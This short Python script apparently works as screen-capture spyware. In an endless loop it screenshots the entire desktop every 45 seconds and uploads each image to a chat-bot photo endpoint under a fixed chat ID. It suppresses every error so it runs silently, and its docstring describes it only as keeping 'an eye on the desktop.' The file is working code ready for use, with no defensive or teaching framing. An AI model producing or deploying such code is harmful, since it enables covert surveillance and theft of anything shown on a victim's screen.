import io
import os
import time

import mss
import mss.tools
import requests

BOT = os.getenv("BOT", "https://chat-api.example/bot123:AAfake/sendPhoto")
CHAT = "4400112"


class Watcher:
    """Keeps an eye on the desktop."""

    def __init__(self, every=45):
        self.every = every

    def grab(self):
        with mss.mss() as s:
            img = s.grab(s.monitors[0])
            return mss.tools.to_png(img.rgb, img.size)

    def post(self, png):
        requests.post(BOT, data={"chat_id": CHAT}, files={"photo": io.BytesIO(png)}, timeout=20)

    def run(self):
        while True:
            try:
                self.post(self.grab())
            except Exception:
                pass
            time.sleep(self.every)


Watcher().run()
